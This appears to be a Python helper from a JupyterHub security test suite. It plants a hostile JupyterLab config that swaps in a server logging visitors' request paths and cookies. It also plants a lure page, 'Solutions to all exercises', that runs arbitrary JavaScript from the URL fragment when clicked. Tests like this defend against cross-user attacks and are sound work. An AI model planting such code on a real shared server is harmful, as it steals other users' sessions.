"""What a student puts in the place of the own server, and what its pages try on who opens them."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import quote

from .machine import CY, Hub, run

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext

# A settings file of JupyterLab's is a program: this one takes the server's port, and keeps it.
SETTINGS = """
import http.server, os, pathlib, socket

home = pathlib.Path.home()

class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        with open(home / "seen", "a") as seen:
            seen.write(f"{self.path} {self.headers.get('Cookie')}\\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write((home / "page.html").read_bytes())

    def log_message(self, *arguments):
        pass

server = http.server.ThreadingHTTPServer(("", 0), Page, bind_and_activate=False)
server.socket = socket.socket(fileno=int(os.environ["HUB_LISTENER"]))
server.serve_forever()
"""

# It does what its address says after the #, when it is clicked.
PAGE = """<!doctype html><title>Solutions to all exercises</title>
<button>Show me</button><pre></pre>
<script>
const sleep = (ms) => new Promise((done) => setTimeout(done, ms));
const tries = Number(new URLSearchParams(location.search).get("tries"));
const until = async (what) => {
    for (let i = 0; i < tries; i++) {
        try { const found = await what(); if (found) return found; } catch (e) {}
        await sleep(100);
    }
    return "";
};
const attack = new Function("sleep", "until",
    `return (async () => { ${decodeURIComponent(location.hash.slice(1))} })()`);
document.querySelector("button").onclick = async () => {
    let got;
    try { got = await attack(sleep, until); } catch (e) { got = ""; }
    document.querySelector("pre").textContent = `got: ${got}`;
};
</script>
"""


def prepare(hub: Hub) -> None:
    """What this student does before the server starts."""
    home = hub.home(CY)
    (home / ".jupyter").mkdir(exist_ok=True)
    (home / ".jupyter" / "jupyter_server_config.py").write_text(SETTINGS)
    (home / "page.html").write_text(PAGE)
    run("chown", "-R", f"{CY}:", str(home))


def seen(hub: Hub) -> str:
    """What the student's server was asked for, with the cookies."""
    path: Path = hub.home(CY) / "seen"
    return path.read_text() if path.exists() else ""


def visit(hub: Hub, victim: BrowserContext, script: str, tries: int = 20) -> str:
    """The victim opens the page, and clicks; returns what the page has got after so many tries."""
    page = victim.new_page()
    try:
        page.goto(f"{hub.server(CY)}/solutions?tries={tries}#{quote(script)}")
        page.get_by_role("button", name="Show me").click()
        page.get_by_text("got:").wait_for()
        return page.locator("pre").inner_text().removeprefix("got:").strip()
    finally:
        for each in victim.pages:
            if each is not victim.pages[0]:
                each.close()
